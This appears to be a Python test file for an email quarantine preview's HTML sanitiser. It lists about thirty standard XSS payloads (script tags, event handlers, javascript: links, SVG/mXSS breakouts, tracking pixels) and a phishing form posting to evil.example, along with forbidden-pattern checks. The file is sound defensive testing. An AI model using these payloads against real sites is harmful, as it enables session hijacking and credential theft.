"""The quarantine preview shows hostile HTML safely: every payload of a common XSS set comes out inert.

Each test names the attack; the assertions check what must never survive (script, handlers, URL-loading attributes,
clickable links) and that harmless layout and text do survive.
"""

from __future__ import annotations

import io
import re
import zipfile
from email.message import EmailMessage

import pytest

from tenants.mail.preview import parse_view, sanitize_html

#: Things that must never be in sanitised output: script, event handlers, URL loaders, dangerous schemes.
FORBIDDEN = [
    r"<script", r"\son\w+\s*=", r"javascript:", r"vbscript:", r"<iframe", r"<object", r"<embed", r"<svg", r"<math",
    r"<meta", r"<base", r"<link", r"<style", r"style=", r"\ssrc=", r"srcset", r"href=", r"<form", r"<input",
    r"<button", r"expression\(", r"url\(", r"data:", r"background=", r"formaction", r"<img",
]

XSS = {
    "script_tag": '<p>hi</p><script>alert(document.cookie)</script>',
    "script_case_and_spacing": '<ScRiPt >alert(1)</sCrIpT >',
    "img_onerror": '<img src=x onerror="alert(1)">',
    "body_onload": '<body onload=alert(1)>text</body>',
    "event_handler_on_div": '<div onmouseover="alert(1)" onclick=alert(2)>hover</div>',
    "javascript_link": '<a href="javascript:alert(1)">click</a>',
    "javascript_link_entities": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "vbscript_link": '<a href="vbscript:msgbox(1)">click</a>',
    "svg_with_script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>',
    "svg_onload": '<svg onload=alert(1)></svg>',
    "css_expression": '<div style="width: expression(alert(1))">x</div>',
    "css_url_in_style_attr": '<td style="background-image:url(https://tracker.example/p.gif)">x</td>',
    "style_tag_import": '<style>@import url(https://evil.example/x.css); body{background:url(x)}</style>text',
    "remote_image": '<img src="https://tracker.example/pixel.gif?u=bob" width=1 height=1>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">after',
    "base_href": '<base href="https://evil.example/"><a href="/login">relative</a>',
    "srcset": '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
    "picture_source": '<picture><source srcset="https://tracker.example/a.webp"><img src="a.png"></picture>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object_embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    "data_uri_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "data_uri_image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form_phishing": '<form action="https://evil.example/steal"><input name=pw type=password><button>Go</button>'
                     '</form>',
    "button_formaction": '<button formaction="javascript:alert(1)">x</button>',
    "table_background": '<table background="https://tracker.example/bg.png"><tr><td>cell</td></tr></table>',
    "link_stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "math_xlink": '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    "comment_breakout": '<!--<script>alert(1)</script>-->visible',
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "attribute_breakout": '<b title=\'"><script>alert(1)</script>\'>t</b>',
    "font_color_injection": '<font color="red; background:url(https://x)" face="x\'onmouseover=alert(1)">f</font>',
}


@pytest.mark.parametrize("name", sorted(XSS))
def test_xss_payload_is_inert(name: str) -> None:
    """Attack: hostile HTML in a quarantined mail runs in the viewer's browser session of our web."""
    out = sanitize_html(XSS[name])
    for pattern in FORBIDDEN:
        assert not re.search(pattern, out, re.I), f"{name}: {pattern!r} survived in {out!r}"


def test_links_are_shown_not_clickable() -> None:
    """Attack: a phishing link in the preview is clicked; it must show its target instead."""
    out = sanitize_html('<a href="https://evil.example/login?a=1&b=2">Your bank</a>')
    assert out == '<span class="mw-link" title="https://evil.example/login?a=1&amp;b=2">Your bank</span>'


def test_remote_image_becomes_a_placeholder_naming_the_host() -> None:
    """Attack: a tracking pixel tells the sender the mail was opened in the quarantine."""
    out = sanitize_html('<img src="https://tracker.example/p.gif" alt="Logo">')
    assert out == '<span class="mw-img-blocked" title="remote image from tracker.example blocked">[image: Logo]</span>'


def test_layout_and_text_survive() -> None:
    out = sanitize_html('<table border="1"><tr><td bgcolor="#ff0000" colspan="2"><b>Bold</b> &amp; '
                        '<i>italic</i> 1 &lt; 2</td></tr></table><p align="center">para</p>')
    assert '<td bgcolor="#ff0000" colspan="2"><b>Bold</b> &amp; <i>italic</i> 1 &lt; 2</td>' in out
    assert '<p align="center">para</p>' in out


def test_text_content_of_scripts_and_titles_is_dropped() -> None:
    out = sanitize_html("<html><head><title>secret title</title></head><body>body<script>var x=1</script>"
                        "</body></html>")
    assert out == "body"


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("run.exe", b"MZ" + b"\x00" * 64)
    return buf.getvalue()


#: A zip archive that the mail calls a PDF.
ZIP = _zip()


def _mail(html: str, text: str | None = None) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "bob@acme.test", "Preview"
    if text is not None:
        msg.set_content(text)
        msg.add_alternative(html, subtype="html")
    else:
        msg.set_content(html, subtype="html")
    msg.add_attachment(ZIP, maintype="application", subtype="pdf", filename="invoice.pdf")
    return msg.as_bytes()


def test_html_only_mail_previews_as_sanitised_html() -> None:
    view = parse_view(_mail('<p onclick="x()">Hello <script>alert(1)</script><a href="https://e.example">link</a></p>'))
    preview = view.preview
    assert preview.kind == "html"
    assert "<script" not in preview.html and "onclick" not in preview.html
    assert "Hello" in preview.text and "link" in preview.text


def test_text_part_is_preferred_and_attachment_real_type_is_found() -> None:
    view = parse_view(_mail("<p>html</p>", text="plain words"))
    assert view.preview.kind == "text" and view.preview.text.strip() == "plain words"
    (att,) = view.attachments
    assert (att.filename, att.declared_type, att.real_type) == ("invoice.pdf", "application/pdf", "application/zip")
    assert att.size == len(ZIP)


def test_unparseable_input_never_raises() -> None:
    view = parse_view(b"\xff\xfe\x00garbage\r\n\r\n--\r\n")
    assert view.preview.kind in ("text", "empty")
